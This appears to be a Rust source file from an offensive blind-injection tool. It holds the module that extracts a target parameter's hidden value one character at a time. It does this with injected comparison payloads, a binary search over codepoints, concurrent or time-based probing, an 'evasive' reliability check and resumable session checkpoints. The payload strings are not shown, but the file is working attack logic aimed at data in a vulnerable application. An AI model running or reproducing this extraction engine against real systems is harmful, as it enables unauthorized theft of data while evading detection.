//! Character Extractor (C9): the core of the Adaptive Blind Extraction
//! Engine. Resolves every unresolved character of a parameter's value
//! concurrently on a scoped `rayon` thread pool, checkpointing the
//! session file after each character resolves so a killed run can
//! resume mid-string.

use parking_lot::Mutex;
use rayon::prelude::*;

use crate::detect::reliable_check_evasive;
use crate::engine::Engine;
use crate::session::SessionStore;
use crate::strategy::{DetectionMode, Strategy};

const MAX_CODEPOINT: u32 = 0x10FFFF;

/// Extracts `length` characters of `param`'s value. `already` is any
/// prior session checkpoint — `'?'` entries (or a too-short string) mark
/// characters still to resolve. Time-based strategies always run with a
/// single worker since concurrent time probes would corrupt each
/// other's latency measurements; everything else uses `threads`.
pub fn extract(engine: &Engine, strategy: &Strategy, param: &str, length: usize, already: &str, threads: usize, session: &SessionStore) -> String {
    let mut chars: Vec<char> = already.chars().collect();
    chars.resize(length, '?');

    let missing: Vec<usize> = chars
        .iter()
        .enumerate()
        .filter(|(_, c)| **c == '?')
        .map(|(i, _)| i)
        .collect();
    if missing.is_empty() {
        return chars.into_iter().collect();
    }

    let workers = if strategy.kind == DetectionMode::Time { 1 } else { threads.max(1) };
    let shared = Mutex::new(chars);

    let pool = rayon::ThreadPoolBuilder::new()
        .num_threads(workers)
        .build()
        .expect("failed to build character-extraction thread pool");

    pool.install(|| {
        missing.par_iter().for_each(|&index| {
            let resolved = resolve_char(engine, strategy, param, index);
            let snapshot = {
                let mut guard = shared.lock();
                guard[index] = resolved;
                guard.iter().collect::<String>()
            };
            session.update(param, "extracted_data", serde_json::Value::String(snapshot));
            tracing::debug!(param, index, char = %resolved, "resolved character");
        });
    });

    shared.into_inner().into_iter().collect()
}

/// Binary search over the full Unicode codepoint range for the single
/// character at `index`. A network-level `None` from any probe
/// short-circuits the search and yields `'?'` for that position, rather
/// than guessing or retrying forever.
fn resolve_char(engine: &Engine, strategy: &Strategy, param: &str, index: usize) -> char {
    let ctx = engine.strategy_ctx();
    let (mut low, mut high) = (0u32, MAX_CODEPOINT);

    while low <= high {
        let mid = low + (high - low) / 2;
        let payload = (strategy.char_gt)(param, index, mid, &ctx);
        let Ok(body) = engine.template.body.with_leaf(param, payload) else {
            return '?';
        };
        match reliable_check_evasive(engine, strategy, &body) {
            Some(true) => low = mid + 1,
            Some(false) => {
                if mid == 0 {
                    break;
                }
                high = mid - 1;
            }
            None => return '?',
        }
    }
    char::from_u32(low).unwrap_or('?')
}

#[cfg(test)]
mod tests {
    /// A binary search over the full Unicode codepoint range
    /// (0..=0x10FFFF) never needs more than 21 probes.
    #[test]
    fn codepoint_range_fits_in_twenty_one_probes() {
        let worst_case = (0x10FFFF as f64).log2().ceil() as u32 + 1;
        assert!(worst_case <= 21);
    }

    #[test]
    fn already_fully_resolved_string_needs_no_probes() {
        let already = "admin";
        let missing: Vec<usize> = already.chars().enumerate().filter(|(_, c)| *c == '?').map(|(i, _)| i).collect();
        assert!(missing.is_empty());
    }
}
